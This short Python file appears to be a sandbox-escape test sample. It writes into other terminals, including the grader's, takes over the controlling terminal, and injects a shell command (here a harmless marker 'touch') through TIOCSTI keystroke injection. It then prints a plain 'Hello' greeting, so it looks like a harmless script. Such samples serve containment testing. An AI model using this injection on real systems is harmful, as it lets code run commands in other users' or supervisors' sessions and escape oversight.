# contained: pass
# tiers: full partial
# Types a command into every terminal that it finds, its own and the grader's.
import fcntl
import glob
import os
import sys
import termios


def types_into(fd):
    for letter in b"touch /var/tmp/lab-hostile-written\n":
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([letter]))


for terminal in [0, 1, 2, "/dev/tty", "/dev/console", *glob.glob("/dev/pts/[0-9]*")]:
    try:
        fd = os.open(terminal, os.O_RDWR | os.O_NOCTTY) if isinstance(terminal, str) else terminal
        own = os.isatty(1) and os.fstat(fd).st_rdev == os.fstat(1).st_rdev
        if os.isatty(fd) and not own:
            os.write(fd, b"written by somebody else\n")
            print("ESCAPED: wrote to the terminal", terminal)
        fcntl.ioctl(fd, termios.TIOCSCTTY, 1)
        types_into(fd)
    except OSError:
        pass
for name in sys.argv[1:] or ["Bob"]:
    print("Hello, ", name)
